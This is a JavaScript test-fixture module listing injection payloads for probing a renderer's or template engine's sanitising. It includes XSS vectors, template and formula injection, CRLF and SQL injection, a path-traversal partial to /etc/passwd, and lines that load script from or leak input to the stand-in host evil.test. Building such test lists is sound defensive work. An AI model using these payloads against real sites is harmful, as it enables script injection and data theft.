// SPDX-License-Identifier: MIT
// Texts that are more than text to a page, a template or a sheet that is not careful. A script among them asks for alert(1); an evaluated
// template says kEvaluated.

export const kEvaluated = String(1327 * 1009);

export const payloads = [
  // Script elements.
  '<script>alert(1)</script>', '<SCRIPT>alert(1)</SCRIPT>', '<ScRiPt >alert(1)</sCrIpT >', '<script src=//evil.test/x.js></script>',
  '<script/src=data:,alert(1)></script>', '<script\n>alert(1)</script>', '<script\t>alert(1)</script\t>',
  '<script/x>alert(1)</script/x>', '<script type=module>alert(1)</script>', '<script async>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>', '<<script>alert(1)//<</script>', '</script><script>alert(1)</script>', '<script>/*',
  '<!--<script>alert(1)</script>-->', '--><script>alert(1)</script>', '<![CDATA[<script>alert(1)</script>]]>',
  ']]><script>alert(1)</script>', '<?xml version="1.0"?><script>alert(1)</script>', '<svg><script>alert(1)</script></svg>',
  '<svg><script href=data:,alert(1) />', '<math><mtext><script>alert(1)</script>',
  '<noscript><p title="</noscript><script>alert(1)</script>">', '<xmp><p title="</xmp><script>alert(1)</script>">',
  '<style><!--</style><script>alert(1)//--></script>',
  // Ends of what a page has open.
  '</title><script>alert(1)</script>', '</textarea><script>alert(1)</script>', '</textarea><img src=x onerror=alert(1)>',
  '</option></select><img src=x onerror=alert(1)>', '</p></main><img src=x onerror=alert(1)>',
  '</form><form action=//evil.test><button>', '</label><a href=//evil.test>x</a>', '</style><script>alert(1)</script>',
  '</template><script>alert(1)</script>', '</svg><script>alert(1)</script>', '</text></svg><script>alert(1)</script>',
  '</body></html><script>alert(1)</script>', '</td></tr></table><script>alert(1)</script>', '</li></ol><img src=x onerror=alert(1)>',
  '</h1><h1 onmouseover=alert(1)>x',
  // Attributes.
  '" onfocus=alert(1) autofocus="', '\' onfocus=alert(1) autofocus=\'', '" autofocus onfocus="alert(1)', ' onfocus=alert(1) autofocus ',
  '"><script>alert(1)</script>', '\'><script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '\'><svg onload=alert(1)>',
  '"/><img/src/onerror=alert(1)>', '" style="position:fixed;inset:0" onclick="alert(1)',
  '" formaction="javascript:alert(1)" type="submit', '" formaction=//evil.test type=image src=x value="',
  '" accesskey=x onclick=alert(1) "', '" srcdoc="<script>alert(1)</script>', '" onpointerenter=\'alert(1)\' data-x="',
  'x" hidden onbeforematch="alert(1)', '&quot; onfocus=alert(1) autofocus=&quot;', '&#34; onfocus=alert(1) autofocus &#34;',
  '&#x22;&gt;&lt;script&gt;alert(1)&lt;/script&gt;', '\\" onfocus=alert(1) autofocus \\"', '`onfocus=alert(1) autofocus=`',
  '"\tonfocus=alert(1)\tautofocus\t"', '"\nonfocus=alert(1)\nautofocus\n"', '"/onfocus=alert(1)/autofocus/"',
  '" data-background-saving="on" action="//evil.test',
  // Handlers.
  '<img src=x onerror=alert(1)>', '<IMG SRC=x ONERROR=alert(1)>', '<img/src=x/onerror=alert(1)>', '<img src=x onerror=&#97;lert(1)>',
  '<img src=x onerror="&#0000097lert(1)">', '<img src=1 href=1 onerror="alert(1)"></img>', '<image src=x onerror=alert(1)>',
  '<img srcset=x onerror=alert(1)>', '<svg onload=alert(1)>', '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><set onbegin=alert(1) attributename=x>',
  '<svg><a href=javascript:alert(1)><text y=9>x', '<svg><use href=data:image/svg+xml,x#x>', '<svg><foreignObject><body onload=alert(1)>',
  '<body onload=alert(1)>', '<body onpageshow=alert(1)>', '<details open ontoggle=alert(1)>', '<video src=x onerror=alert(1)>',
  '<video><source onerror=alert(1)>', '<audio src onloadstart=alert(1)>', '<input onfocus=alert(1) autofocus>',
  '<select onfocus=alert(1) autofocus>', '<textarea onfocus=alert(1) autofocus>', '<button onfocus=alert(1) autofocus>',
  '<marquee onstart=alert(1)>', '<iframe onload=alert(1)>', '<object onerror=alert(1) data=x>', '<embed src=x onerror=alert(1)>',
  '<style onload=alert(1)></style>', '<link rel=stylesheet href=x onerror=alert(1)>',
  '<p onanimationstart=alert(1) style=animation-name:x>', '<a id=x tabindex=1 onfocus=alert(1)>', '<x onclick=alert(1)>x',
  '<keygen autofocus onfocus=alert(1)>', '<dialog open onclose=alert(1)>', '<p contenteditable onbeforeinput=alert(1)>',
  '<form onformdata=alert(1)><button>', '<meter onmouseover=alert(1)>1</meter>',
  '<input type=hidden oncontentvisibilityautostatechange=alert(1)>',
  // Addresses.
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)', ' javascript:alert(1)',
  'javascript://%0aalert(1)', 'javascript:%61lert(1)', 'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'vbscript:msgbox(1)', '<a href=javascript:alert(1)>x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>', '<a href=data:text/html,x>x</a>', '<iframe src=javascript:alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">', '<form action=javascript:alert(1)><button>', '<button formaction=javascript:alert(1)>x',
  '<base href=//evil.test/>', '<meta http-equiv=refresh content="0;url=//evil.test">', '<link rel=import href=//evil.test>',
  '<object data=data:text/html,x>', '<embed src=//evil.test/x.swf>', '<img src=//evil.test/pixel>', '<portal src=//evil.test>',
  '//evil.test/',
  // Styles.
  '<style>*{background:url(//evil.test)}</style>', '<style>@import "//evil.test"</style>', '<p style=background:url(//evil.test)>x',
  '<p style="width:expression(alert(1))">x', '<link rel=stylesheet href=//evil.test/x.css>',
  '<style>input[value^=a]{background:url(//evil.test/a)}</style>', '" style="background:url(//evil.test)',
  '<svg><style>@import url(//evil.test)</style>', '}</style><script>alert(1)</script>', '<p style="-moz-binding:url(x)">x',
  // Markdown.
  '[x](javascript:alert(1))', '[x](data:text/html,<script>alert(1)</script>)', '![x](//evil.test/pixel)', '![x](x" onerror="alert(1))',
  '<javascript:alert(1)>', '[x]: javascript:alert(1)', '[x](</a><script>alert(1)</script>)', '`</code><script>alert(1)</script>`',
  '> <script>alert(1)</script>', '# <img src=x onerror=alert(1)>', '- <svg onload=alert(1)>',
  '```\n</pre><script>alert(1)</script>\n```', '**<script>alert(1)</script>**', '<div>\n<script>alert(1)</script>\n</div>',
  '::: {onclick=alert(1)}',
  // Templates, of many kinds, and cells of a sheet.
  '{{1327*1009}}', '{{{1327*1009}}}', '{{& csrf}}', '{{{csrf}}}', '{{csrf}}', '{{> head}}', '{{> guard}}', '{{>../../../etc/passwd}}',
  '{{#client_name}}{{csrf}}{{/client_name}}', '{{^x}}{{csrf}}{{/x}}', '{{=<% %>=}}<%csrf%>', '{{! x }}', '{{#', '{{', '}}', '{{/main}}',
  '{{.}}', '{{..}}', '{{this.constructor.constructor("return 1327*1009")()}}', '{{practitioner_name}}', '${1327*1009}', '#{1327*1009}',
  '<%=1327*1009%>', '<% 1327*1009 %>', '{% print(1327*1009) %}', '[[1327*1009]]', '[[${1327*1009}]]', '@(1327*1009)', '*{1327*1009}',
  '~{1327*1009}', '$(echo $((1327*1009)))', '`echo $((1327*1009))`', '%{1327*1009}', '{php}echo 1327*1009;{/php}', '<?= 1327*1009 ?>',
  '=1327*1009', '+1327*1009', '-1327*1009', '@SUM(1327*1009)', '=HYPERLINK("//evil.test","x")',
  // Mixtures and odd letters.
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A//</stYle/</titLe/--!>', '\'"()&%<acx><ScRiPt >alert(1)</ScRiPt>',
  '\'">><marquee><img src=x onerror=alert(1)></marquee>"', '"><svg/onload=alert(1)>{{1327*1009}}${1327*1009}',
  '\u202e<script>alert(1)</script>\u202c', '\u2066<img src=x onerror=alert(1)>\u2069', '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '\u02babonfocus=alert(1)', '\u2028<script>alert(1)</script>', '\u2029<script>alert(1)</script>', '\ufeff<script>alert(1)</script>',
  '<\u200bscript>alert(1)</script>', '<img src=x onerror\u00a0=alert(1)>', '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e', '\\u003cscript\\u003ealert(1)', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<script\u0000>alert(1)</script>', '<scr\u0000ipt>alert(1)</scr\u0000ipt>', '\u0000"><img src=x onerror=alert(1)>',
  '\b<svg onload=alert(1)>', '\u001b[31m<script>alert(1)</script>', '\r\nSet-Cookie: a=b', '\r\n\r\n<script>alert(1)</script>',
  '%0d%0aLocation: //evil.test', '\u0130<script>alert(1)</script>', 'e\u0301\u0301\u0301<script>alert(1)</script>',
  '\ud83d\udc69\u200d\ud83d\udc67<svg onload=alert(1)>', '\'; DROP TABLE client; --', '" OR ""="',
];
